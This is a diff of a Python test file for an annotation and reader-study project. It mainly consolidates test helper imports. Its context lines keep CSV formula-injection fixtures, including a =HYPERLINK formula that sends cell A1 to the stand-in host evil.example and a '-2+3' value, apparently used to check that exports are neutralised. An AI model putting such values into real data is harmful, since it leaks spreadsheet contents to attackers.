@@ -14,8 +14,7 @@ from annotation.exporting import csv_text, inert
 from annotation.models import Membership, Report, Role
 from studies import services as studies
 from studies.models import ReaderStudy
-from tests.annotation.test_splits_export import add_reports
-from tests.studies.test_studies import _answer_all
+from tests.support import add_reports, answer_all
 
 EVIL_ACCESSION = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 EVIL_READER = "-2+3"
@@ -42,7 +41,7 @@ def _evil_study(project):
     Membership.objects.create(project=project, user=reader, role=Role.READER)
     study = studies.study_create(project=project, name="S", readers=[reader], seed=3)
     studies.study_status_set(study=study, status=ReaderStudy.Status.OPEN)
-    _answer_all(study, project)
+    answer_all(study, project)
     return study
 
 
